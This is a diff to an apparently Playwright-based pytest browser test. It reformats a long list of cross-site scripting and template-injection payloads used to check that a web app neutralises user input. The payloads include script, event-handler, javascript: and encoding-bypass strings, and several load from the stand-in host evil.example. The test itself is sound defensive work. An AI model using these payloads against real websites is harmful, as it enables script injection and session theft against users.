@@ -19,38 +19,89 @@ from tests.support.server import ServerProcess
 pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]
 
 PAYLOADS = (
-    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "</script><script>alert(1)</script>",
-    "<script>window.ran(1)//", "<<script>alert(1)//<</script>", "<script/x>alert(1)</script>",
-    "<img src=x onerror=alert(1)>", "<img src=x onerror=window.ran(1) ", "<IMG SRC=javascript:alert(1)>",
-    '<img """><script>alert(1)</script>">', "<img/src=`x`onerror=alert(1)>", "<image src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
-    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>", "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)'>x",
-    "<form action=javascript:alert(1)><button>x", "<button formaction=javascript:alert(1)>x</button>",
-    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src onerror=alert(1)>",
-    "<marquee onstart=alert(1)>", "<style>@import'//evil.example/x.css'</style>", "<link rel=stylesheet href=//evil.example>",
-    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<template><img src onerror=alert(1)>",
-    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' x='",
-    '" autofocus onfocus=alert(1) x="', "</title><img src onerror=alert(1)>", "</textarea><img src onerror=alert(1)>",
-    "</bdi></a></li></ul><img src onerror=alert(1)>", "--><img src onerror=alert(1)><!--", "]]><img src onerror=alert(1)>",
-    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
-    'https://a.example/"onmouseover="alert(1)', "https://a.example/<img/src/onerror=alert(1)>", "http://javascript:alert(1)@a.example/",
-    "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&quot;&gt;&lt;svg onload=alert(1)&gt;",
-    "{{ 7 * 7 }}", "{{config.items()}}{% raw %}", "${alert(1)}`${7*7}`", "%3Cscript%3Ealert(1)%3C/script%3E", "#{7*7}<%= 7*7 %>",
-    "\\x3cscript\\x3ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<scr\u2024ipt>alert(1)", "＜script＞alert(1)＜/script＞",
-)  # fmt: skip
-BODIES_ONLY = (
-    "line\u2028<img src=x onerror=alert(1)>\u2029next", "\u202e<script>alert(1)</script>\u202c", "\u2066\u200f<svg onload=alert(1)>",
-    "<img\tsrc=x\nonerror=alert(1)>", "<img src=x onerror=alert(1)\x7f>", "java\tscript:alert(1)", "a" * 300 + "<svg onload=alert(1)>",
-)  # fmt: skip
-NICKNAMES = tuple(payload for payload in PAYLOADS if len(payload) <= 32)[::2][:12]
-TAGS = frozenset(
-    "html head meta title link script body header nav main footer div p span a bdi h1 h2 h3 ul ol li form input label "
-    "select option button details summary article time textarea noscript fieldset legend strong br img".split()
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "</script><script>alert(1)</script>",
+    "<script>window.ran(1)//",
+    "<<script>alert(1)//<</script>",
+    "<script/x>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=window.ran(1) ",
+    "<IMG SRC=javascript:alert(1)>",
+    '<img """><script>alert(1)</script>">',
+    "<img/src=`x`onerror=alert(1)>",
+    "<image src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)//",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
+    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='data:text/html,<script>alert(1)'>x",
+    "<form action=javascript:alert(1)><button>x",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<style>@import'//evil.example/x.css'</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<template><img src onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
+    "'><img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' x='",
+    '" autofocus onfocus=alert(1) x="',
+    "</title><img src onerror=alert(1)>",
+    "</textarea><img src onerror=alert(1)>",
+    "</bdi></a></li></ul><img src onerror=alert(1)>",
+    "--><img src onerror=alert(1)><!--",
+    "]]><img src onerror=alert(1)>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    'https://a.example/"onmouseover="alert(1)',
+    "https://a.example/<img/src/onerror=alert(1)>",
+    "http://javascript:alert(1)@a.example/",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&quot;&gt;&lt;svg onload=alert(1)&gt;",
+    "{{ 7 * 7 }}",
+    "{{config.items()}}{% raw %}",
+    "${alert(1)}`${7*7}`",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "#{7*7}<%= 7*7 %>",
+    "\\x3cscript\\x3ealert(1)",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<scr\u2024ipt>alert(1)",
+    "＜script＞alert(1)＜/script＞",
 )
+BODIES_ONLY = (
+    "line\u2028<img src=x onerror=alert(1)>\u2029next",
+    "\u202e<script>alert(1)</script>\u202c",
+    "\u2066\u200f<svg onload=alert(1)>",
+    "<img\tsrc=x\nonerror=alert(1)>",
+    "<img src=x onerror=alert(1)\x7f>",
+    "java\tscript:alert(1)",
+    "a" * 300 + "<svg onload=alert(1)>",
+)
+NICKNAMES = tuple(payload for payload in PAYLOADS if len(payload) <= 32)[::2][:12]
+OUR_TAGS = """
+  html head meta title link script body header nav main footer div p span a bdi h1 h2 h3 ul ol li form input label
+  select option button details summary article time textarea noscript fieldset legend strong br img
+"""
 WATCH = """
   window.ran = what => (window.caught ??= []).push(`ran: ${what}`);
   window.alert = window.confirm = window.prompt = what => window.ran(what);
@@ -63,14 +114,17 @@ LOOK = """() => {
   for (const element of own) {
     tags.add(element.localName);
     for (const {name, value} of element.attributes) {
-      if (name.startsWith('on') || name === 'srcdoc' || name === 'style') handlers.push(`${element.localName} ${name}=${value}`);
+      if (name.startsWith('on') || name === 'srcdoc' || name === 'style')
+        handlers.push(`${element.localName} ${name}=${value}`);
       if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(name)) addresses.push(value);
     }
   }
-  return {caught: window.caught ?? [], tags: [...tags], handlers, addresses,
-    inline: document.querySelectorAll('script:not([src])').length,
-    pictures: document.querySelectorAll('img:not([src^="/static/"])').length, metas: document.querySelectorAll('meta[http-equiv]').length};
+  const count = selector => document.querySelectorAll(selector).length;
+  return {caught: window.caught ?? [], tags: [...tags], handlers, addresses, inline: count('script:not([src])'),
+    pictures: count('img:not([src^="/static/"])'), metas: count('meta[http-equiv]')};
 }"""
+
+FILL = "(field, value) => { field.removeAttribute('maxlength'); field.type = 'text'; field.value = value; }"
 
 
 class Watched:
@@ -89,7 +143,7 @@ class Watched:
         found: dict[str, Any] = await self.page.evaluate(LOOK)
         self.pages += 1
         assert found["caught"] == [], where
-        assert set(found["tags"]) <= TAGS, (where, set(found["tags"]) - TAGS)
+        assert set(found["tags"]) - set(OUR_TAGS.split()) == set(), where
         assert found["handlers"] == [], where
         assert (found["inline"], found["metas"], found["pictures"]) == (0, 0, 0), where
         for address in found["addresses"]:
@@ -110,9 +164,7 @@ class Watched:
         """Fill in without the browser's own checks, and see that what comes back has every value as it was."""
         await self.visitor.go(path)
         for name, value in fields.items():
-            await self.page.eval_on_selector(
-                f"[name={name}]", "(field, value) => { field.removeAttribute('maxlength'); field.type = 'text'; field.value = value; }", value
-            )  # fmt: skip
+            await self.page.eval_on_selector(f"[name={name}]", FILL, value)
         async with self.page.expect_navigation():
             await self.page.eval_on_selector(
                 "main form", "form => HTMLFormElement.prototype.submit.call(form)"
